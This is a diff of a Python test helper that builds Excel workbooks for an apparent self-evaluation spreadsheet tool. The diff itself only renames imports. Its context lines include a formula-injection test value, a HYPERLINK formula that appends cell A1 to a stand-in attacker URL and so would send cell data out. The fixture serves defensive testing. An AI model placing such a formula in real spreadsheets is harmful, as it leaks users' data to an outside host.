@@ -14,8 +14,8 @@ from typing import Any
 import openpyxl
 from openpyxl.utils.escape import unescape
 
-from selfeval_xl.files import carried
-from selfeval_xl.sheets.layout import BUDGET, BUDGET_FIELDS, INDICATOR_FIELDS, INDICATORS, PROJECT, PROJECT_FIELDS
+from selfeval_xl.domain.layout import BUDGET, BUDGET_FIELDS, INDICATOR_FIELDS, INDICATORS, PROJECT, PROJECT_FIELDS
+from selfeval_xl.storage import resources
 
 TEXTS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -90,7 +90,7 @@ def workbook(path: Path, texts: Sequence[str] = (*TEXTS, *STORED), turn: int = 0
 
     ``turn`` says with which of them the facts begin; ``everywhere`` puts the texts where numbers are due, too.
     """
-    book = openpyxl.load_workbook(io.BytesIO(carried.read("mof-2020.xlsx")))
+    book = openpyxl.load_workbook(io.BytesIO(resources.read("mof-2020.xlsx")))
     facts = [(row, cell.value) for row, (cell,) in enumerate(book[PROJECT].iter_rows(max_col=1), 1)]
     free = [row for row, label in facts if label in _TEXT_FIELDS[PROJECT]]
     for number, row in enumerate(free):
